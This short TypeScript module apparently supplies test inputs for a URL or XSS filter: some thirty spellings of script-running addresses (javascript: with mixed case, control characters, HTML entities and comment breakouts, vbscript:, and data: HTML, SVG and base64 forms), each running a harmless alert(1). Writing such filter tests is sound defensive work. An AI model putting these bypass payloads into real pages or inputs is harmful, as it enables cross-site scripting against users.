/** The program of every attack; a page that shows this dialog has run it. */
export const RUN = 'alert(1)'

/** One address that runs a script, spelled in the ways that parsers of addresses and filters read differently. */
export const SCRIPT_ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\tjavascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript\r:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&#58;${RUN}`,
  `&#0000106avascript:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `java&NewLine;script:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script>*/${RUN}`,
  `javascript:void(0);${RUN}`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${RUN}</script>`,
  `blob:null/00000000-0000-0000-0000-000000000000`,
  `filesystem:null/temporary/a.html`,
  `about:blank#${RUN}`,
]

/** In an attribute with double quotes. */
export const quoted = (value: string): string => value.replaceAll('"', '&quot;')
